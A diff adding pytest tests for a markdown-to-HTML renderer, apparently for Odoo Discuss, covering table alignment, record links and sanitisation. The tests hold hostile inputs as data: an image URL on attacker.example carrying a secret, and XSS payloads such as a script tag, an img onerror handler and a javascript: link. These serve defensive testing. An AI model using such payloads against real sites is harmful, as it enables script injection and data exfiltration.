@@ -45,3 +45,34 @@ def test_images_are_never_loaded_only_linked() -> None:
     html = markdown_to_html("![chart](https://attacker.example/pixel.png?d=secret)")
     assert "<img" not in html
     assert '<a href="https://attacker.example/pixel.png?d=secret">chart</a>' in html, "fetched only if clicked"
+
+
+def test_tables_render_with_their_alignment() -> None:
+    html = markdown_to_html("Orders:\n\n| Name | Total |\n| :--- | ---: |\n| **SO1** | 10 |")
+    assert "<table>" in html
+    assert '<th style="text-align:left">Name</th>' in html
+    assert '<td style="text-align:left"><strong>SO1</strong></td>' in html
+    assert '<td style="text-align:right">10</td>' in html
+
+
+@pytest.mark.parametrize(
+    "cell",
+    ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](/web#id=1)"],
+)
+def test_a_table_cell_stays_inert(cell: str) -> None:
+    html = markdown_to_html(f"| a |\n| --- |\n| {cell} |")
+    assert "<td>" in html
+    assert "<script" not in html and "<img" not in html and "<a" not in html
+
+
+def test_a_record_link_opens_the_record_in_discuss() -> None:
+    html = markdown_to_html("| Partner |\n| --- |\n| [Azure Interior](/odoo/res.partner/14) |")
+    assert '<a href="/odoo/res.partner/14" data-oe-model="res.partner" data-oe-id="14">Azure Interior</a>' in html
+
+
+@pytest.mark.parametrize(
+    "target", ["/odoo/res.partner/14/edit", "/odoo/action-12/3", "/odoo/res.partner/0", "//odoo/res.partner/1"]
+)
+def test_other_odoo_paths_stay_text(target: str) -> None:
+    html = markdown_to_html(f"[x]({target})")
+    assert "<a" not in html
